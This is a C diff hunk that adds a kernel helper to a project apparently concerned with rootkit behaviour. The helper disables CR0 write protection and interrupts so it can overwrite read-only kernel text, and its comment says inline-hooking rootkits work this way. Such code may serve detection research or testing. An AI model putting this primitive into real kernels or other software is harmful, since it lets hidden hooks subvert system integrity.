@@ -27,3 +27,16 @@ static inline void nfm_rk_write_protected(void** slot, void* value) {
   *slot = value;
   nfm_rk_cr0_write(cr0);
 }
+
+// Copies `n` bytes over kernel text (read-only, executable) with CR0.WP lifted and
+// interrupts off, as inline-hooking rootkits do.
+static inline void nfm_rk_write_text(void* at, const void* bytes, size_t n) {
+  unsigned long flags, cr0;
+  size_t i;
+  local_irq_save(flags);
+  cr0 = read_cr0();
+  nfm_rk_cr0_write(cr0 & ~X86_CR0_WP);
+  for (i = 0; i < n; ++i) ((volatile unsigned char*)at)[i] = ((const unsigned char*)bytes)[i];
+  nfm_rk_cr0_write(cr0);
+  local_irq_restore(flags);
+}
